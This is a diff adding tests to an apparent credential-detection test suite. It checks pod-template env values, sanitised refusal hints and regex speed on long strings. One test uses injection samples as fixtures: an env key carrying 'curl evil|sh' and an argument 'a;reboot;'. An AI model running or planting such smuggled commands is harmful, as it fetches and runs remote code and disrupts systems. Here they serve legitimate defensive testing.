@@ -46,6 +46,31 @@ describe('credentials in what somebody gives', () => {
     expect(pathsOf({ command: ['x', '--token', 'abc', '--api-key=def'] })).to.deep.equal(['command[2]', 'command[3]']);
   });
 
+  it('finds values of variables of a podTemplate that are named like credentials', () => {
+    const env = [
+      { name: 'GITHUB_TOKEN', value: 'abc' },
+      { name: 'LOG_LEVEL', value: 'debug' },
+    ];
+    const spec = { podTemplate: { spec: { containers: [{ name: 'server', env }] } } };
+    expect(pathsOf(spec)).to.deep.equal(['podTemplate.spec.containers[0].env[0].value']);
+  });
+
+  it('puts nothing into a line for a shell that was given by somebody', () => {
+    const given = { env: { 'X;curl evil|sh;TOKEN': `ghp_${A}` } };
+    const refusal = () => refuseCredentials('a;reboot;', given, { place: 'cluster', secretsPlace: 'mcp' });
+    expect(refusal)
+      .to.throw(UserError)
+      .with.property('hint')
+      .that.does.not.match(/curl|reboot/);
+  });
+
+  it('are looked for in a long line without trying every beginning to its end', () => {
+    const beganMs = performance.now();
+    for (const unit of ['a.', 'a-', 'SG.a', 'http://a']) expect(hideIn(unit.repeat(250_000))).to.have.length.above(1);
+    // It would be minutes.
+    expect(performance.now() - beganMs).to.be.below(10_000);
+  });
+
   it('leaves alone what only looks a little like one', () => {
     const env = {
       ...{ MAX_TOKENS: '4096', TOKEN: '600', GITHUB_TOKEN_FILE: '/run/secrets/token', API_KEY: '/run/secrets/key' },
